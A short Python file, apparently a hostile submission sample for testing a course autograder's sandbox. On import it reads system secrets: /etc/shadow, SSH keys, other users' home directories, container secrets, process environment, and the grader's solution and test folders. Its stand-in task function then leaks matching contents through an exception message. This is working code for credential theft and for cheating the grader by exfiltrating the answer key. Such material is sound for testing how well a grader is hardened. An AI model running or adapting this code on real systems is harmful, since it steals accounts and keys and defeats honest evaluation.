"""Reads the machine's secrets (accounts, keys, tokens, other homes) and shows them in its messages.

machine
earns: nothing
"""

import glob
import os

PATTERNS = (
    "/etc/shadow /etc/passwd /etc/ssh/* /root/* /root/.ssh/* /home/*/* /home/*/.*/* /run/secrets/* /var/run/secrets/* "
    "/var/log/* /autograder/* /srv/course/solutions/* /srv/course/.git/* /srv/course/tests/courses/tiny/solutions/*/* "
    "/tmp/* /var/tmp/* /dev/shm/* /proc/1/environ /proc/cmdline /sys/class/dmi/id/*"
).split()
loot = []
for pattern in PATTERNS:
    for path in glob.glob(pattern):
        if path.startswith(os.getcwd()) or path.startswith(os.path.expanduser("~")):
            continue
        try:
            with open(path, "rb") as file:
                loot.append(file.read(10_000))
        except OSError:
            continue


def sum_file(path):
    shown = [entry for entry in loot if b"60934" in entry or b"kingfisher" in entry or b"root:" in entry]
    raise RuntimeError(repr(shown)[:190])
